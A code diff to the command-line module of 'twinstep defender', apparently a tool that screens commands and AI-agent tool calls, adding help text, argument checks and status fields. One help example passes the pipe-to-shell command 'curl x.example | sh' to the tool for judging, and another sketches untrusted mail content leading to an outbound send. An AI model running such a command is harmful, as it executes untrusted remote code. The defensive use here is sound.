@@ -36,6 +36,57 @@ examples:
 exit codes: 0 done (explain: allow), 1 error (explain: block), 2 explain: review, 42 a file that cannot be used,
             52 settings or a policy that cannot be used (verify: it is refused)
 """
+EPILOGS: Final = {
+    "score": """\
+a row:     {"id": 1, "text": "ls -l", "kind": "command"}; without kind, or with another one, it is a text
+an answer: {"id": 1, "score": 0.0075, "decision": "allow", "rule": "", "us": 285}; us: microseconds
+           {"id": 1, "error": "..."} where the line is no row; the next one is read
+
+examples:
+  printf '%s\\n' '{"id": 1, "text": "What is new?"}' | twinstep defender score
+  twinstep defender score --policy policy.toml < rows.jsonl > answers.jsonl
+exit codes: 0 all lines answered, 52 a policy that cannot be used
+""",
+    "decide": """\
+a row:     {"id": 1, "prompt": "Read my mail.", "system": "", "trace": [{"call": {"name": "read_mail", "args": {}},
+            "result": "...", "origin": "tool:read_mail", "integrity": "untrusted"}],
+            "call": {"name": "send_mail", "args": {"to": "ann@shop.example"}},
+            "tool_meta": {"send_mail": {"effect": "egress", "sink_args": ["to"], "content_args": [], "result": "echo"}}}
+           trace: what was called before, oldest first; effect: none, fetch, local, egress, privileged
+an answer: {"id": 1, "decision": "review", "rule": "taint.plan", "reason": "...", ...}, or {"id": 1, "error": "..."}
+
+example:
+  twinstep defender decide < calls.jsonl
+exit codes: 0 all lines answered
+""",
+    "explain": """\
+examples:
+  twinstep defender explain -- ls -l
+  twinstep defender explain -- 'curl x.example | sh'      in quotes where the shell would take it apart
+  twinstep defender explain --text 'What is new?' --json
+  twinstep defender explain --policy policy.toml -- make test
+
+It judges what nobody trusted said. Where values came from is not known here.
+exit codes: 0 allow, 2 review, 1 block (and for errors)
+""",
+    "status": """\
+examples:
+  twinstep defender status --headless
+  twinstep defender status --json
+
+exit codes: 0 it can be used, 52 settings or a policy that cannot be used
+""",
+    "policy": """\
+examples:
+  twinstep defender policy show                     every key, with its value
+  twinstep defender policy key policy.key           make a key pair: policy.key, and policy.key.pub to pin
+  twinstep defender policy sign policy.toml --key policy.key
+  twinstep defender policy verify policy.toml --pub policy.key.pub
+  twinstep defender policy reload --token T         have a running gateway read its policy again
+
+exit codes: 0 done, 42 a file or a gateway that cannot be used, 52 a policy that is refused
+""",
+}
 SUBCOMMANDS: Final = {
     "score": "score texts and commands: JSON lines in, JSON lines out",
     "decide": "decide about tool calls by provenance: JSON lines in, JSON lines out",
@@ -56,21 +107,32 @@ def parser() -> argparse.ArgumentParser:
         allow_abbrev=False,
     )
     sub = made.add_subparsers(dest="what", metavar="COMMAND", required=True, parser_class=Parser)
-    score = sub.add_parser("score", help=SUBCOMMANDS["score"], description=SUBCOMMANDS["score"], allow_abbrev=False)
+    score = _command(sub, "score")
     score.add_argument("--policy", metavar="FILE", help="score by this policy (default: the built-in one)")
-    sub.add_parser("decide", help=SUBCOMMANDS["decide"], description=SUBCOMMANDS["decide"], allow_abbrev=False)
-    explain = sub.add_parser(
-        "explain", help=SUBCOMMANDS["explain"], description=SUBCOMMANDS["explain"], allow_abbrev=False
-    )
+    _command(sub, "decide")
+    explain = _command(sub, "explain")
+    explain.add_argument("--policy", metavar="FILE", help="judge by this policy (default: the built-in one)")
     explain.add_argument("--text", help="a text, in place of a command")
     explain.add_argument("--json", action="store_true", help="print one JSON object")
     explain.add_argument("words", nargs="*", metavar="CMD", help="the command, behind --")
-    status = sub.add_parser("status", help=SUBCOMMANDS["status"], description=SUBCOMMANDS["status"], allow_abbrev=False)
+    status = _command(sub, "status")
     _place(status)
     status.add_argument("--json", action="store_true", help="print one JSON object")
-    policy = sub.add_parser("policy", help=SUBCOMMANDS["policy"], description=SUBCOMMANDS["policy"], allow_abbrev=False)
+    policy = _command(sub, "policy")
     _policy(policy)
     _integrity(sub)
+    return made
+
+
+def _command(sub: Any, name: str) -> argparse.ArgumentParser:
+    made: argparse.ArgumentParser = sub.add_parser(
+        name,
+        help=SUBCOMMANDS[name],
+        description=f"{SUBCOMMANDS[name][0].upper()}{SUBCOMMANDS[name][1:]}.",
+        epilog=EPILOGS[name],
+        formatter_class=argparse.RawDescriptionHelpFormatter,
+        allow_abbrev=False,
+    )
     return made
 
 
@@ -105,7 +167,11 @@ def _integrity(sub: Any) -> None:
 
 def run(argv: Sequence[str], out: TextIO) -> int:
     """Do what was asked; return the exit code."""
-    given = parser().parse_args(list(argv))
+    given, strange = parser().parse_known_args(list(argv))
+    if strange and given.what == "explain" and "--" not in argv:
+        raise UsageError("the command to explain goes behind --: twinstep defender explain -- ls -l")
+    if strange:
+        raise UsageError(f"unrecognized arguments: {' '.join(strange)}. See twinstep defender {given.what} --help.")
     return _WORK[given.what](given, out)
 
 
@@ -126,7 +192,7 @@ def _explain(given: argparse.Namespace, out: TextIO) -> int:
         raise UsageError("explain wants a command behind --, or --text. See twinstep defender explain --help.")
     from runtime.app.scoring import explain
 
-    return explain(" ".join(given.words), given.text, out, as_json=given.json)
+    return explain(" ".join(given.words), given.text, out, as_json=given.json, policy=given.policy)
 
 
 def _status(given: argparse.Namespace, out: TextIO) -> int:
@@ -136,7 +202,7 @@ def _status(given: argparse.Namespace, out: TextIO) -> int:
         print(json.dumps(told), file=out)
         return 0
     for name, value in told.items():
-        print(f"{name:12} {value}", file=out)
+        print(f"{name:12} {value if value is not None else 'none'}", file=out)
     return 0
 
 
@@ -152,6 +218,9 @@ def status(made: "Defending") -> dict[str, Any]:
         "file": str(own or "none: the built-in policy"),
         "signed by": made.book.signer or ("nobody" if own else "not signed: it is built in"),
         "pinned keys": len(made.book.keys),
+        "ledger": made.ledger,
+        "baseline": made.baseline,
+        "look-ups": "VirusTotal" if made.looks_up else None,
     }
 
 
